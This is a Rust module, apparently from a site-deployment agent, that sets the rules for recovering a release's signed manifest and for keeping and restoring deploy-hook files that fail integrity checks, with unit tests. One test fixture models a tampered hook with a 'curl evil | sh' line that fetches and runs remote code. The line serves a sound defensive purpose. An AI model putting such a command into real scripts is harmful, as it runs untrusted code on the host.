//! The site release's manifest clock (issue 16; AG-34, AG-37), as pure rules: when the agent
//! asks the plane for the installed release's signed manifest again (manifest recovery), which
//! files of a release are its deployment files, when a copy of one is kept, and what settling
//! does with each. `site_release::keep` and `site_release::recover` do the I/O; the layout is
//! documented in `docs/site-releases.md`.
//!
//! The installed release is the one `current` points at (`releases/<version>`, this layout's
//! VERSION), and its signed manifest is the `RELEASE_MANIFEST` / `RELEASE_MANIFEST.sig` pair in
//! that release's directory.

use std::time::Duration;

use capstan_signing::manifest::{FileEntry, FileManifest, ManifestError, Seen};

/// How often the manifest clock ticks unless `--manifest-tick-secs` says otherwise (AG-34:
/// every ten minutes).
pub const DEFAULT_MANIFEST_TICK: Duration = Duration::from_secs(600);
/// The deployment files are those a release lists under this directory: its deploy hook and
/// whatever the hook brings along (this layout's counterpart of the spec's five files, AG-38).
pub const DEPLOY_DIR: &str = "deploy/";
/// The most deployment files kept for one release (the rest are not kept, and say so).
pub const MAX_DEPLOYMENT_FILES: usize = 64;
/// The most bytes of one deployment file kept.
pub const MAX_KEPT_BYTES: u64 = 8 * 1024 * 1024;
/// The directory of kept copies in the agent's state directory:
/// `release-files/<version>/<sha256>`, one file per kept copy, named by its hash.
pub const KEEP_DIR: &str = "release-files";

/// What a manifest recovery asked for and found refused (AG-34): the release, and the keys the
/// agent trusted when it judged it. Not asked for again while both are the same.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Offer {
    pub version: String,
    /// The trusted keys' fingerprints, sorted and joined: a key held since is a new offer.
    pub keys: String,
}

impl Offer {
    pub fn new(version: &str, fingerprints: impl IntoIterator<Item = String>) -> Offer {
        let mut keys: Vec<String> = fingerprints.into_iter().collect();
        keys.sort();
        keys.dedup();
        Offer {
            version: version.to_string(),
            keys: keys.join(","),
        }
    }
}

/// What the manifest clock does about the installed release's manifest (AG-34).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Recovery {
    /// It loads and verifies: nothing to recover. A file that no longer matches it is a
    /// finding (preflight's `files`), never a reason to replace the manifest.
    Usable,
    /// No release is installed: there is no manifest to have.
    NoRelease,
    /// `current` names no release: nothing is known to ask for.
    Unknown(String),
    /// The plane's manifest for this offer did not verify before: not asked for again until
    /// the offer changes.
    Refused(Offer),
    /// Ask the plane for the release's signed manifest.
    Fetch { offer: Offer, why: String },
}

/// AG-34's rule: recovery is asked for only when the installed release's manifest cannot be
/// used at all (absent, unreadable or unparseable, or not signed by a trusted key: `loaded`'s
/// error), never because a file differs from it (a manifest that loads is `Usable` whatever the
/// files say), and never again for an offer already refused.
pub fn recovery(
    version: Result<Option<&str>, &str>,
    loaded: Result<(), &ManifestError>,
    offer: impl FnOnce(&str) -> Offer,
    refused: Option<&Offer>,
) -> Recovery {
    let version = match version {
        Err(why) => return Recovery::Unknown(why.to_string()),
        Ok(None) => return Recovery::NoRelease,
        Ok(Some(version)) => version,
    };
    let why = match loaded {
        Ok(()) => return Recovery::Usable,
        Err(error) => error.to_string(),
    };
    let offer = offer(version);
    if refused == Some(&offer) {
        return Recovery::Refused(offer);
    }
    Recovery::Fetch { offer, why }
}

/// A release's deployment files (AG-37, AG-38): what its manifest lists under [`DEPLOY_DIR`],
/// by path, at most [`MAX_DEPLOYMENT_FILES`] and each at most [`MAX_KEPT_BYTES`].
pub fn deployment_files(manifest: &FileManifest) -> Vec<(&str, &FileEntry)> {
    manifest
        .files
        .iter()
        .filter(|(path, entry)| path.starts_with(DEPLOY_DIR) && entry.size <= MAX_KEPT_BYTES)
        .take(MAX_DEPLOYMENT_FILES)
        .map(|(path, entry)| (path.as_str(), entry))
        .collect()
}

/// Whether what is on disk is exactly the listed file: bytes and mode.
pub fn matches(entry: &FileEntry, on_disk: Option<&Seen>) -> bool {
    matches!(on_disk, Some(Seen::File { size, sha256, mode })
        if *size == entry.size && *sha256 == entry.sha256 && *mode == entry.mode)
}

/// The kept copy's name under [`KEEP_DIR`]: tagged with the release, named by its hash.
pub fn kept_name(version: &str, sha256: &str) -> String {
    format!("{version}/{sha256}")
}

/// Before an apply (AG-37): a copy is kept of each deployment file that matches the installed
/// manifest, and of nothing else (a file already edited is never kept as if it were the
/// release's).
pub fn keep(entry: &FileEntry, on_disk: Option<&Seen>) -> bool {
    matches(entry, on_disk)
}

/// What settling does with one deployment file (AG-37).
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Settle {
    /// It matches the manifest: nothing to do.
    Matches,
    /// It no longer matches, and a copy with the listed hash is kept for this very release:
    /// written back.
    WriteBack,
    /// It no longer matches and no verifying copy of this release is kept: left as it is, and
    /// said.
    NoVerifyingCopy,
}

/// AG-37's settle rule for one file: a deployment file that no longer matches the installed
/// manifest is written back only from a copy kept for the release still installed (`kept`:
/// the release the copy was kept for and the SHA-256 of its bytes as read now) whose hash is
/// the one the manifest lists.
pub fn settle(
    installed: &str,
    entry: &FileEntry,
    on_disk: Option<&Seen>,
    kept: Option<(&str, &str)>,
) -> Settle {
    if matches(entry, on_disk) {
        return Settle::Matches;
    }
    match kept {
        Some((version, sha256)) if version == installed && sha256 == entry.sha256 => {
            Settle::WriteBack
        }
        _ => Settle::NoVerifyingCopy,
    }
}

/// Whether settling may run at all (AG-37): never while the site lock is held (an apply is on
/// its way through, and files differ on the way), and only under a usable manifest of the
/// installed release.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SettleGate {
    Go,
    /// Why nothing is settled this time.
    Skip(String),
}

pub fn settle_gate(
    lock_held: bool,
    installed: Option<&str>,
    loaded: Result<(), &ManifestError>,
) -> SettleGate {
    if lock_held {
        return SettleGate::Skip("the site lock is held: a deploy is running".into());
    }
    let Some(installed) = installed else {
        return SettleGate::Skip("no release is installed".into());
    };
    if let Err(error) = loaded {
        return SettleGate::Skip(format!(
            "the manifest of {installed} cannot be used ({error}); nothing is known to put back"
        ));
    }
    SettleGate::Go
}

/// Kept copies of releases no longer on disk are removed: of the releases copies are kept for,
/// those not among `on_disk`.
pub fn kept_to_remove(kept_for: &[String], on_disk: &[String]) -> Vec<String> {
    kept_for
        .iter()
        .filter(|version| !on_disk.contains(version))
        .cloned()
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn entry(bytes: &[u8], mode: u32) -> FileEntry {
        let Seen::File { size, sha256, .. } = Seen::of(bytes, mode) else {
            unreachable!()
        };
        FileEntry { size, sha256, mode }
    }

    fn offer(version: &str) -> Offer {
        Offer::new(version, ["key-b".to_string(), "key-a".to_string()])
    }

    #[test]
    fn ag_34_recovery_asks_only_when_the_manifest_cannot_be_used() {
        let absent = ManifestError::Absent("RELEASE_MANIFEST".into());
        let unparseable = ManifestError::Invalid("expected value at line 1".into());
        let foreign = ManifestError::UntrustedSignature {
            signers: "someone".into(),
        };
        for error in [&absent, &unparseable, &foreign] {
            match recovery(Ok(Some("2.0.0")), Err(error), offer, None) {
                Recovery::Fetch { offer: asked, why } => {
                    assert_eq!(asked.version, "2.0.0");
                    assert_eq!(why, error.to_string());
                }
                other => panic!("{error}: {other:?}"),
            }
        }
        // A manifest that loads is usable, whatever the files say: a file that differs (a hash
        // mismatch) is never a reason to replace the manifest.
        assert_eq!(
            recovery(Ok(Some("2.0.0")), Ok(()), offer, None),
            Recovery::Usable
        );
        // Nothing installed, or `current` naming nothing: nothing to ask for.
        assert_eq!(
            recovery(Ok(None), Err(&absent), offer, None),
            Recovery::NoRelease
        );
        assert!(matches!(
            recovery(Err("current points at /tmp"), Err(&absent), offer, None),
            Recovery::Unknown(why) if why.contains("/tmp")
        ));
    }

    #[test]
    fn ag_34_a_refused_manifest_is_not_asked_for_again_until_the_offer_changes() {
        let absent = ManifestError::Absent("RELEASE_MANIFEST".into());
        let refused = offer("2.0.0");
        assert_eq!(
            recovery(Ok(Some("2.0.0")), Err(&absent), offer, Some(&refused)),
            Recovery::Refused(refused.clone())
        );
        // another release installed since
        assert!(matches!(
            recovery(Ok(Some("2.1.0")), Err(&absent), offer, Some(&refused)),
            Recovery::Fetch { .. }
        ));
        // a key trusted since
        let more_keys = |version: &str| {
            Offer::new(
                version,
                [
                    "key-a".to_string(),
                    "key-b".to_string(),
                    "key-c".to_string(),
                ],
            )
        };
        assert!(matches!(
            recovery(Ok(Some("2.0.0")), Err(&absent), more_keys, Some(&refused)),
            Recovery::Fetch { .. }
        ));
        // the order the keys are held in is not a change
        assert_eq!(
            Offer::new("2.0.0", ["key-a".to_string(), "key-b".to_string()]),
            refused
        );
    }

    #[test]
    fn ag_37_the_deployment_files_are_the_releases_files_under_deploy() {
        let manifest = FileManifest::describe([
            ("deploy/hook", 0o755, &b"#!/bin/sh\n"[..]),
            ("deploy/lib/migrate.sh", 0o644, &b"x"[..]),
            ("public/index.html", 0o644, &b"<p>"[..]),
            ("deployment.txt", 0o644, &b"not under deploy/"[..]),
        ])
        .unwrap();
        let paths: Vec<&str> = deployment_files(&manifest)
            .into_iter()
            .map(|(path, _)| path)
            .collect();
        assert_eq!(paths, ["deploy/hook", "deploy/lib/migrate.sh"]);
    }

    #[test]
    fn ag_37_only_a_file_that_matches_the_manifest_is_kept() {
        let listed = entry(b"#!/bin/sh\nexit 0\n", 0o755);
        assert!(keep(
            &listed,
            Some(&Seen::of(b"#!/bin/sh\nexit 0\n", 0o755))
        ));
        assert!(!keep(
            &listed,
            Some(&Seen::of(b"#!/bin/sh\nexit 1\n", 0o755))
        ));
        assert!(!keep(
            &listed,
            Some(&Seen::of(b"#!/bin/sh\nexit 0\n", 0o644))
        ));
        assert!(!keep(&listed, Some(&Seen::Other)));
        assert!(!keep(&listed, None));
        assert_eq!(
            kept_name("2.0.0", &listed.sha256),
            format!("2.0.0/{}", listed.sha256)
        );
    }

    #[test]
    fn ag_37_settle_writes_back_only_a_copy_of_the_installed_release_with_the_listed_hash() {
        let bytes = b"#!/bin/sh\nexit 0\n";
        let listed = entry(bytes, 0o755);
        let good = Seen::of(bytes, 0o755);
        let edited = Seen::of(b"#!/bin/sh\ncurl evil | sh\n", 0o755);
        let copy = Some(("2.0.0", listed.sha256.as_str()));
        // matching: nothing to do, whatever is kept
        assert_eq!(settle("2.0.0", &listed, Some(&good), copy), Settle::Matches);
        // edited, missing, replaced by a link or its mode changed: written back from the copy
        for on_disk in [Some(&edited), None, Some(&Seen::Other)] {
            assert_eq!(settle("2.0.0", &listed, on_disk, copy), Settle::WriteBack);
        }
        assert_eq!(
            settle("2.0.0", &listed, Some(&Seen::of(bytes, 0o777)), copy),
            Settle::WriteBack
        );
        // the installed release changed since the copy was kept: left alone
        assert_eq!(
            settle("2.1.0", &listed, Some(&edited), copy),
            Settle::NoVerifyingCopy
        );
        // a copy whose bytes are not the listed ones (the kept file was changed): left alone
        let other = Seen::of(b"tampered copy", 0o600);
        let Seen::File { sha256: wrong, .. } = &other else {
            unreachable!()
        };
        assert_eq!(
            settle("2.0.0", &listed, Some(&edited), Some(("2.0.0", wrong))),
            Settle::NoVerifyingCopy
        );
        // no copy
        assert_eq!(
            settle("2.0.0", &listed, Some(&edited), None),
            Settle::NoVerifyingCopy
        );
    }

    #[test]
    fn ag_37_nothing_is_settled_while_the_site_lock_is_held_or_without_a_usable_manifest() {
        let foreign = ManifestError::UntrustedSignature {
            signers: "someone".into(),
        };
        assert_eq!(settle_gate(false, Some("2.0.0"), Ok(())), SettleGate::Go);
        assert!(matches!(
            settle_gate(true, Some("2.0.0"), Ok(())),
            SettleGate::Skip(why) if why.contains("lock")
        ));
        assert!(matches!(
            settle_gate(false, None, Ok(())),
            SettleGate::Skip(_)
        ));
        assert!(matches!(
            settle_gate(false, Some("2.0.0"), Err(&foreign)),
            SettleGate::Skip(why) if why.contains("cannot be used")
        ));
    }

    #[test]
    fn ag_37_copies_of_releases_gone_from_disk_are_removed() {
        let kept = vec!["1.0.0".to_string(), "2.0.0".to_string()];
        assert_eq!(
            kept_to_remove(&kept, &["2.0.0".to_string(), "2.1.0".to_string()]),
            ["1.0.0"]
        );
    }
}
